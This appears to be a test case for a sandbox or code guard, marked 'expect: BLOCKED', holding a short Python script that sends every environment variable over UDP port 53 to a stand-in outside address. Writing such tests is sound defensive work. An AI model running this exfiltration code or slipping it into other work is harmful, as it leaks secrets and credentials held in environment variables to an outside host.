# expect: BLOCKED
import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for k, v in os.environ.items():
    s.sendto(f"{k}={v}".encode(), ("203.0.113.9", 53))
